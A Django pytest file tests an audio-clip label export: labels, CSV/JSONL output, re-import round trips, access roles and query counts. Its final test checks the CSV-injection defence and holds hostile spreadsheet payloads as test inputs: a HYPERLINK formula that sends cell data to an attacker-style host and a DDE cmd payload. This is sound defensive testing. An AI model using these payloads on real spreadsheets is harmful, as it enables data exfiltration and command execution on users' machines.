"""Label export: which label stands for each clip and why, the CSV as a manifest that re-imports to the
same labels, and the API / page / command around it (roles, 4xx on bad input, constant queries)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from annotation.models import Clip
from annotation.selectors import current_labels, taxonomy_index_cached
from annotation.services.annotations import annotation_create
from annotation.services.clips import clips_import_manifest
from quality.export import COLUMNS, label_export_rows
from quality.services.consensus import consensus_recompute_project
from quality.services.detection import quality_run_detect
from tests.factories import ClipFactory, ProjectFactory, write_tone
from tests.quality.builders import PLANTED, annotate, make_model, make_world

pytestmark = pytest.mark.django_db

API = "/api/v1"


@pytest.fixture
def world(tmp_path: Path, fast_passwords: None):
    """28 labelled clips (4 planted sibling swaps), one fixed by two second opinions, a multi-label
    clip, an unlabelled clip and a failed one; a detection run and a consensus pass."""
    w = make_world()
    make_model(w)
    quality_run_detect(project=w.project, budget=len(w.clips))
    fixed = w.clips[0]  # planted Rock/Metal, truly Rock/Punk
    annotate(w, fixed, w.truth[0], user=w.users["ann2"])
    annotate(w, fixed, w.truth[0], user=w.users["ann3"])
    multi = ClipFactory(project=w.project, external_id="multi")
    annotation_create(
        clip=multi,
        index=w.index,
        explicit_node_ids=w.node_ids("Jazz/Bebop") + w.node_ids("Rock/Punk"),
        source="user:ann1",
        user=w.users["ann1"],  # type: ignore[arg-type]
    )
    ClipFactory(project=w.project, external_id="fresh")
    ClipFactory(
        project=w.project,
        external_id="broken",
        status=Clip.Status.FAILED,
        error="truncated: header says 23424 frames, decoding stops before the end",
        duration_s=None,
    )
    consensus_recompute_project(project=w.project)
    return w


def _rows(world) -> dict[str, dict]:
    return {r["clip_id"]: r for r in label_export_rows(project=world.project)}


def test_each_clip_gets_the_label_that_stands_and_how_sure_it_is(world) -> None:
    rows = _rows(world)
    assert len(rows) == len(world.clips) + 3
    fixed = rows[world.clips[0].external_id]
    # Two second opinions outvote the planted label: the consensus stands, from a second opinion.
    assert fixed["labels"] == [world.truth[0]]
    assert fixed["n_annotations"] == 3
    assert fixed["label_source"] in {f"user:{world.users['ann2']}", f"user:{world.users['ann3']}"}
    assert fixed["consensus_quality"] is not None and 0.0 <= fixed["agreement"] <= 1.0
    assert fixed["issue_type"] == "wrong_sibling"
    # A planted error nobody has looked at again keeps the given label and shows its open issue.
    planted = next(i for i in PLANTED if i != 0)
    still = rows[world.clips[planted].external_id]
    assert still["labels"] == [PLANTED[planted]] and still["n_annotations"] == 1
    assert still["issue_status"] == "open" and still["issue_type"] == "wrong_sibling"
    # Most specific nodes only, in taxonomy order; the ancestors are implied.
    assert rows["multi"]["labels"] == ["Rock/Punk", "Jazz/Bebop"]
    assert rows["multi"]["taxonomy_version"] == str(world.project.taxonomy_version)
    assert rows["fresh"]["labels"] == [] and rows["fresh"]["label_source"] == ""
    assert rows["fresh"]["n_annotations"] == 0 and rows["fresh"]["consensus_quality"] is None
    broken = rows["broken"]
    assert broken["status"] == "failed" and broken["error"].startswith("truncated")
    assert broken["labels"] == [] and broken["duration_s"] is None
    labelled = list(label_export_rows(project=world.project, labelled_only=True))
    assert {r["clip_id"] for r in labelled} == set(rows) - {"fresh", "broken"}


def test_csv_export_is_a_manifest_that_reimports_to_the_same_labels(
    tmp_path: Path, fast_passwords: None
) -> None:
    source = ProjectFactory()
    given = {
        "a": "Rock/Punk",
        "b": "Jazz/Bebop|Electronic/House",
        "c": "",
        "d": "Rock/Metal",
        "=sum": "Rock/Punk",  # exported as '=sum (CSV injection), read back as =sum
    }
    lines = ["path,labels,clip_id,bpm"]
    for i, (cid, labels) in enumerate(given.items()):
        write_tone(tmp_path / "audio" / f"{cid}.wav", freq=200 + 20 * i)
        lines.append(f"audio/{cid}.wav,{labels},{cid},{100 + i}")
    lines.append("audio/gone.wav,Rock,gone,90")
    (tmp_path / "in.csv").write_text("\n".join(lines) + "\n")
    clips_import_manifest(project=source, manifest=tmp_path / "in.csv")
    # A person corrects one label after the import: the newest annotation is the clip's label now.
    index = taxonomy_index_cached(source.taxonomy_version)
    d = Clip.objects.get(project=source, external_id="d")
    annotation_create(
        clip=d,
        index=index,
        explicit_node_ids=[index.lookup("Rock/Indie").id],  # type: ignore[union-attr]
        source="user:someone",
    )

    out = tmp_path / "labels.csv"
    call_command("export_labels", "--project", source.slug, "--out", str(out), stdout=io.StringIO())
    with out.open(newline="") as fh:
        exported = list(csv.DictReader(fh))
    assert tuple(exported[0]) == COLUMNS
    by_id = {r["clip_id"]: r for r in exported}
    assert by_id["b"]["labels"] == "Electronic/House|Jazz/Bebop"  # taxonomy order
    assert by_id["d"]["labels"] == "Rock/Indie" and by_id["d"]["label_source"] == "user:someone"
    assert by_id["gone"]["status"] == "failed" and by_id["gone"]["error"] == "file not found"

    target = ProjectFactory(taxonomy_version=source.taxonomy_version)
    job = clips_import_manifest(project=target, manifest=out)
    assert (job.n_imported, job.n_failed) == (5, 1)
    assert by_id["'=sum"]["labels"] == "Rock/Punk"

    def labels_of(project) -> dict[str, set[str]]:
        cur = current_labels(project=project)
        ext = dict(Clip.objects.filter(project=project).values_list("pk", "external_id"))
        paths = {n.id: n.path for n in taxonomy_index_cached(project.taxonomy_version).nodes}
        return {
            ext[c]: {paths[n] for n in nodes}
            for c, nodes in zip(cur.clip_ids, cur.node_ids, strict=True)
        }

    assert labels_of(target) == labels_of(source)
    assert labels_of(target)["d"] == {"Rock", "Rock/Indie"}
    # The export's other columns travel as metadata of the re-imported clips.
    again = Clip.objects.get(project=target, external_id="a")
    assert again.metadata["refrain_id"] == str(Clip.objects.get(project=source, external_id="a").pk)


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_api_export_for_reviewers_in_csv_and_jsonl(world) -> None:
    url = f"{API}/projects/{world.project.pk}/export"
    reviewer = _client(world.users["reviewer"])
    res = reviewer.get(url)
    assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
    assert res["Content-Disposition"] == f'attachment; filename="{world.project.slug}-labels.csv"'
    text = b"".join(res.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(world.clips) + 3
    assert {r["clip_id"]: r["labels"] for r in rows}["multi"] == "Rock/Punk|Jazz/Bebop"

    res = reviewer.get(url, {"format": "jsonl", "labelled_only": "true"})
    assert res["Content-Type"].startswith("application/x-ndjson")
    lines = [json.loads(x) for x in b"".join(res.streaming_content).decode().splitlines()]
    assert len(lines) == len(world.clips) + 1 and all(r["labels"] for r in lines)

    bad = reviewer.get(url, {"format": "xlsx"})
    assert bad.status_code == 422
    assert _client(world.users["ann1"]).get(url).status_code == 403
    assert _client(world.users["admin"]).get(url).status_code == 200
    outsider = ProjectFactory()  # a project the reviewer is not in
    assert reviewer.get(f"{API}/projects/{outsider.pk}/export").status_code == 404


def test_export_reads_a_constant_number_of_queries(world, tmp_path: Path) -> None:
    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            rows = list(label_export_rows(project=world.project))
        assert rows
        return len(ctx.captured_queries)

    before = count()
    for i in range(15):
        clip = ClipFactory(project=world.project)
        annotate(world, clip, world.truth[i % len(world.truth)], user=world.users["ann2"])
    assert count() == before


def test_page_download_link_roles_and_bad_format(world) -> None:
    url = reverse("quality-export", args=[world.project.slug])
    reviewer = _client(world.users["reviewer"])
    page = reviewer.get(reverse("quality-dashboard", args=[world.project.slug]))
    assert f'href="{url}?format=csv"' in page.content.decode()
    res = reviewer.get(url, {"format": "csv", "labelled_only": "1"})
    assert res.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
    assert "fresh" not in {r["clip_id"] for r in rows}
    bad = reviewer.get(url, {"format": "xml"})
    assert bad.status_code == 400 and "unknown export format" in bad.content.decode()
    assert _client(world.users["ann1"]).get(url).status_code == 403


def test_command_rejects_unknown_project_and_missing_folder(world, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="no project with slug 'nope'"):
        call_command("export_labels", "--project", "nope")
    with pytest.raises(CommandError, match="does not exist"):
        call_command(
            "export_labels", "--project", world.project.slug, "--out", str(tmp_path / "x" / "y.csv")
        )
    out = io.StringIO()
    call_command("export_labels", "--project", world.project.slug, "--format", "jsonl", stdout=out)
    assert len(out.getvalue().splitlines()) == len(world.clips) + 3


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"open").wav', "+1+2.wav", "-2+3.wav", "@SUM(A1).wav"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    tmp_path: Path, fast_passwords: None, name: str
) -> None:
    """OWASP's CSV injection advice: a leading quote in the CSV; the JSON Lines export stays raw."""
    from quality.export import export_chunks

    project = ProjectFactory()
    ClipFactory(
        project=project,
        external_id=name,
        status=Clip.Status.FAILED,
        error="\t=cmd|' /C calc'!A0",
        duration_s=None,
    )
    ClipFactory(project=project, external_id="plain-name.wav")
    rows = list(label_export_rows(project=project))
    text = "".join(export_chunks(rows, "csv"))
    by_id = {r["refrain_id"]: r for r in csv.DictReader(io.StringIO(text))}
    hostile, plain = (by_id[str(r["refrain_id"])] for r in rows)
    assert hostile["clip_id"] == "'" + name
    assert hostile["error"] == "'\t=cmd|' /C calc'!A0"
    assert plain["clip_id"] == "plain-name.wav"  # ordinary cells are untouched
    for row in csv.DictReader(io.StringIO(text)):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    raw = [json.loads(line) for line in "".join(export_chunks(rows, "jsonl")).splitlines()]
    assert raw[0]["clip_id"] == name and raw[0]["error"].startswith("\t=")
